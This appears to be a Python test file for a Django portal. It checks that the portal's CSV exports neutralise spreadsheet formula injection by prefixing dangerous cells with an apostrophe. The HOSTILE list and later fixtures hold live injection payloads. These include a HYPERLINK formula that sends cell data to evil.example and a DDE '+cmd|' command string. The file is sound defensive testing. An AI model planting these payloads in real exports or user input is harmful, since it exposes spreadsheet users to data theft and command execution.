"""Every CSV the portal writes goes through one writer that keeps spreadsheets from running formulas."""

import csv
import io
from datetime import date

import pytest

from cresol.core.spreadsheet import SafeWriter, safe_cell
from cresol.territories.models import Departement
from initiatives.radar import services
from tests.factories import InitiativeFactory, UserFactory
from tests.radar.answers import answers_all, questions_of

pytestmark = pytest.mark.django_db
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
]


def rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))


def test_the_writer_makes_formulas_text_and_leaves_numbers_and_plain_text_alone():
    output = io.StringIO()
    SafeWriter(output, delimiter=";").writerow([*HOSTILE, -5, 2.5, None, "Épicerie = solidaire"])
    written = next(csv.reader(io.StringIO(output.getvalue()), delimiter=";"))
    assert written[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
    assert written[len(HOSTILE) :] == ["-5", "2.5", "", "Épicerie = solidaire"]
    assert safe_cell(-5) == -5 and safe_cell("") == ""


def test_a_radars_comments_export_as_text(client, radar_grid):
    """The audit's case: the radar's CSV wrote =HYPERLINK(…) and +cmd|… as they were."""
    member = UserFactory()
    initiative = InitiativeFactory(slug="ressourcerie", submitted_by=member)
    answers = answers_all(radar_grid, 2)
    for question, comment in zip(questions_of(radar_grid), HOSTILE, strict=False):
        answers[question.pk] = (2, comment)
    services.assessment_fill(
        initiative=initiative, grid=radar_grid, answers=answers, by=member, filled_on=date(2026, 5, 4)
    )
    client.force_login(member)
    comments = [row[-1] for row in rows(client.get("/radar/ressourcerie/export.csv"))[1:]]
    # Each as text (the form's cleaning took the tab off the fifth: "=1+1" is a formula all the same).
    assert [comment[0] for comment in comments[: len(HOSTILE)]] == ["'"] * len(HOSTILE)
    assert comments[0] == "'" + HOSTILE[0]
    assert comments[len(HOSTILE)] == ""  # positive control: the other answers have no comment


def test_the_initiatives_export_and_the_observatorys_figures_write_formulas_as_text(client):
    InitiativeFactory(name='=HYPERLINK("http://evil.example")', summary="+cmd|' /C calc'!A0")
    # Names in the figures come from the territories' reference data: not typed by members, but the one
    # writer makes them safe all the same.
    Departement.objects.filter(code="37").update(name="@SUM(A1:A9)")
    exported = rows(client.get("/initiatives/export.csv"))
    header = exported[0]
    line = dict(zip(header, exported[1], strict=True))
    assert line["nom"] == '\'=HYPERLINK("http://evil.example")' and line["description_courte"] == "'+cmd|' /C calc'!A0"
    figures = rows(client.get("/observatoire/initiatives-par-departement-et-thematique.csv"))
    assert "'@SUM(A1:A9)" in [cell for row in figures for cell in row]
